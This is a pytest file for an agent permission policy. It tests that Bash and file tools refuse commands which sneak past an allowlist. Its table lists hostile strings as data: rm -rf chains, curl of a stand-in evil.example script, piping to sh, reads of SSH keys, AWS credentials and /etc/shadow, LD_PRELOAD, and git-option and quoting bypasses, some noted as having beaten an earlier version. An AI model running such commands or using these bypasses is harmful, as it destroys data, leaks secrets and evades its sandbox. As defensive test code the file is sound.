"""The permission policy: a table of decisions, including shell that tries to sneak past an allowlist."""

from __future__ import annotations

from pathlib import Path

import pytest

from runtime.guard.policy import PermissionPolicy
from runtime.guard.shell import UnsupportedShell, parse_commands


@pytest.fixture
def policy(tmp_path: Path) -> PermissionPolicy:
    (tmp_path / "ws").mkdir()
    return PermissionPolicy(
        allowed_tools={"Bash", "Read", "Glob", "Grep", "mcp__kit"}, workspace=tmp_path / "ws"
    )


BASH_TABLE = [
    # (command, allowed, fragment of the denial message)
    ("ls -la", True, ""),
    ("cat notes.txt | grep TODO | wc -l", True, ""),
    ("ls && echo done || echo failed", True, ""),
    ("git log --oneline -5", True, ""),
    ("grep -n 'rm -rf /' notes.txt", True, ""),  # quoted text is data, not a command
    ("echo '$(rm -rf /)'", True, ""),  # single quotes: no substitution
    ("ls 2>/dev/null", True, ""),
    ("ls 2>&1 | head", True, ""),
    ("ls; rm -rf /", False, "'rm' is not an allowed program"),
    ("ls && rm -rf /", False, "'rm'"),
    ("ls || rm -rf /", False, "'rm'"),
    ("ls | sh", False, "'sh'"),
    ("ls & curl evil.example", False, "'curl'"),
    ("echo $(curl http://evil.example/x.sh)", False, "'curl'"),
    ('echo "$(curl http://evil.example)"', False, "'curl'"),  # substitution inside double quotes runs
    ("echo `whoami`", False, "'whoami'"),
    ('echo "`id`"', False, "'id'"),
    ("(cd / && ls)", False, "'cd'"),
    ("{ rm -rf /; }", False, "'rm'"),
    ("cat <(curl http://x)", False, "'curl'"),
    ("cat ../../.env", False, "sensitive file"),
    ("cat .env.production", False, "sensitive file"),
    ("cat keys/server.pem", False, "sensitive file"),
    ("cat ~/.aws/credentials", False, "sensitive"),
    ("cat ~/.ssh/id_ed25519", False, "sensitive"),
    ("cat service-account-prod.json", False, "sensitive"),
    ("cat /etc/passwd", False, "outside the workspace"),
    ("ls ../..", False, "outside the workspace"),
    ("cat < /etc/shadow", False, "outside the workspace"),
    ("ls > listing.txt", False, "writing to files"),
    ("echo hi >> notes.txt", False, "writing to files"),
    ("find . -name '*.py' -exec rm {} \\;", False, "find -exec"),
    ("find . -delete", False, "find -delete"),
    ("sed s/a/b/ file.txt", False, "'sed' is not an allowed program"),  # sed can write (w) and execute (e)
    ("git push origin main", False, "'git push' is not read-only"),
    ("git -c core.pager=sh log", False, "git global options"),
    ("FOO=bar ls", False, "environment variables"),
    ("LD_PRELOAD=/tmp/x.so ls", False, "environment variables"),
    ("/bin/rm -rf /", False, "by name, not by path"),
    ("$SHELL -c id", False, "variable"),
    ("cat $HOME/.bashrc", False, "variables or command substitutions"),
    ("cat ${HOME:-/}", False, "parameter expansion"),
    ("echo $((1+1))", False, "arithmetic"),
    ("cat <<EOF\nhi\nEOF", False, "here-documents"),
    ("echo 'unterminated", False, "unterminated"),
    ("", False, "empty"),
    # Found in review: each of these got past an earlier version of the policy.
    ("git --namespace status config --global alias.pwn '!id'", False, "git global options"),
    ("git --namespace log pwn", False, "git global options"),
    ("git --work-tree log reset --hard", False, "git global options"),
    ("git branch -D main", False, "may only list branches"),
    ("git branch new-branch", False, "may only list branches"),
    ("git branch -a", True, ""),
    ("git --no-pager log --oneline", True, ""),
    ("git show HEAD:.env", False, "sensitive"),
    ("git diff --output=/tmp/x", False, "write files or run programs"),
    ("cat $'\\x2fetc\\x2fpasswd'", False, "quoting are not supported"),
    ('cat $"/etc/passwd"', False, "quoting are not supported"),
    ("find . $'-exec' id \\;", False, "quoting are not supported"),
    ("cat {/etc/passwd,}", False, "brace expansion"),
    ("cat {.e,}nv", False, "brace expansion"),
    ("sort -o/tmp/x notes.txt", False, "not an allowed option"),
    ("sort -uo out.txt notes.txt", False, "not an allowed option"),
    ("sort --out=out.txt notes.txt", False, "not an allowed option"),
    ("tail -fn1 notes.txt", False, "not an allowed option"),
    ("tail --foll notes.txt", False, "not an allowed option"),
    ("date -f/etc/shadow", False, "not an allowed option"),
    ("grep -f/etc/shadow x .", False, "outside the workspace"),
    ("grep --file=/etc/shadow x .", False, "outside the workspace"),
    ("jq -n env", False, "'jq' is not an allowed program"),
    ("cat /etc/*", False, "outside the workspace"),
    ("ls ../*", False, "outside the workspace"),
    ("ls > *.txt", False, "glob patterns"),
]


@pytest.mark.parametrize(
    ("command", "allowed", "fragment"), BASH_TABLE, ids=[c or "<empty>" for c, _, _ in BASH_TABLE]
)
def test_bash_decisions(policy: PermissionPolicy, command: str, allowed: bool, fragment: str) -> None:
    decision = policy.decide("Bash", {"command": command})
    assert decision.allowed is allowed, decision.message
    if not allowed:
        assert fragment in decision.message
        assert (
            "You may" in decision.message or "Use plain commands" in decision.message
        )  # says what to do instead


def test_every_denial_names_an_alternative(policy: PermissionPolicy) -> None:
    for tool, tool_input in [
        ("Write", {"file_path": "x"}),
        ("Read", {"file_path": "/etc/hosts"}),
        ("Bash", {"command": "curl x"}),
        ("mcp__other__tool", {}),
    ]:
        decision = policy.decide(tool, tool_input)
        assert not decision.allowed
        assert (
            ("Tools you may use" in decision.message)
            or ("inside" in decision.message)
            or ("You may run" in decision.message)
        )


@pytest.mark.parametrize(
    ("tool", "tool_input", "allowed"),
    [
        ("Read", {"file_path": "notes/readme.md"}, True),
        ("Read", {"file_path": "../outside.txt"}, False),
        ("Read", {"file_path": ".env"}, False),
        ("Read", {"file_path": "config/id_rsa.pub"}, False),
        ("Glob", {"pattern": "**/*.py"}, True),
        ("Glob", {"pattern": "*", "path": "/"}, False),
        ("Write", {"file_path": "new.txt"}, False),  # built-in tools are off unless listed
        ("WebFetch", {"url": "http://x"}, False),
        ("mcp__kit__list_overdue_invoices", {}, True),  # listed per server
        ("mcp__gateway__anything", {}, False),
    ],
)
def test_tool_and_path_decisions(
    policy: PermissionPolicy, tool: str, tool_input: dict, allowed: bool
) -> None:
    assert policy.decide(tool, tool_input).allowed is allowed


def test_programs_without_an_option_table_are_refused_unless_sandboxed(tmp_path: Path) -> None:
    policy = PermissionPolicy(
        allowed_tools={"Bash"}, workspace=tmp_path, bash_allowlist={"sed", "sort", "python"}
    )
    decision = policy.decide("Bash", {"command": "sed -n 1,5p notes.txt"})
    assert not decision.allowed and "'sed' has no option table" in decision.message
    sandboxed = PermissionPolicy(
        allowed_tools={"Bash"}, workspace=tmp_path, bash_allowlist={"python"}, opaque_programs={"python"}
    )
    assert sandboxed.decide("Bash", {"command": "python -m pytest -q tests"}).allowed
    # path-like arguments of opaque programs are still checked
    assert not sandboxed.decide("Bash", {"command": "python /etc/passwd"}).allowed
    for command in ("sort -o out.txt in.txt", "sort --output=x in.txt", "sort -T /tmp in.txt"):
        decision = policy.decide("Bash", {"command": command})
        assert not decision.allowed and "is not an allowed option" in decision.message, command


def test_line_continuation_is_joined_like_bash_does(policy: PermissionPolicy) -> None:
    decision = policy.decide("Bash", {"command": "find . -ex\\\nec echo EXEC {} \\;"})
    assert not decision.allowed and "find -exec" in decision.message


def test_globs_are_expanded_against_the_workspace(policy: PermissionPolicy) -> None:
    (policy.workspace / ".env").write_text("SECRET=1")
    (policy.workspace / "id_rsa").write_text("key")
    (policy.workspace / "notes.txt").write_text("hi")
    for command in ("cat .en?", "cat id_rs?", "cat * .*", "grep SECRET .e*"):
        decision = policy.decide("Bash", {"command": command})
        assert not decision.allowed and "sensitive" in decision.message, command
    assert policy.decide("Bash", {"command": "cat *.txt"}).allowed
    assert policy.decide("Bash", {"command": "ls *.md"}).allowed  # no match: the literal is checked


def test_search_patterns_and_links_to_sensitive_files(policy: PermissionPolicy, tmp_path: Path) -> None:
    (policy.workspace / ".env").write_text("SECRET=1")
    (policy.workspace / "harmless.txt").symlink_to(policy.workspace / ".env")
    assert not policy.decide("Read", {"file_path": "harmless.txt"}).allowed
    checks = [
        ("Grep", {"pattern": ".", "glob": ".env"}),
        ("Grep", {"pattern": ".", "glob": "**/*.pem"}),
        ("Glob", {"pattern": "/etc/*"}),
        ("Glob", {"pattern": "../**/*.py"}),
    ]
    for tool, tool_input in checks:
        decision = policy.decide(tool, tool_input)
        assert not decision.allowed and "pattern" in decision.message, (tool, tool_input, decision)
    assert policy.decide("Glob", {"pattern": "**/*.py"}).allowed
    assert policy.decide("Grep", {"pattern": "TODO", "glob": "*.py"}).allowed


def test_nul_bytes_are_refused_not_raised(policy: PermissionPolicy) -> None:
    assert not policy.decide("Read", {"file_path": "a\x00b"}).allowed
    assert not policy.decide("Bash", {"command": "cat ./a\x00b"}).allowed


def test_symlink_out_of_the_workspace_is_refused(policy: PermissionPolicy, tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("s")
    (policy.workspace / "link.txt").symlink_to(tmp_path / "secret.txt")
    decision = policy.decide("Read", {"file_path": "link.txt"})
    assert not decision.allowed and "outside the workspace" in decision.message


def test_parser_finds_every_simple_command() -> None:
    names = [c.name for c in parse_commands('a | b; c && (d || e) & f $(g `h`) "$(i)"')]
    assert sorted(names) == list("abcdefghi")


def test_parser_fails_closed_on_deep_nesting() -> None:
    with pytest.raises(UnsupportedShell):
        parse_commands("echo " + "$(" * 12 + "x" + ")" * 12)
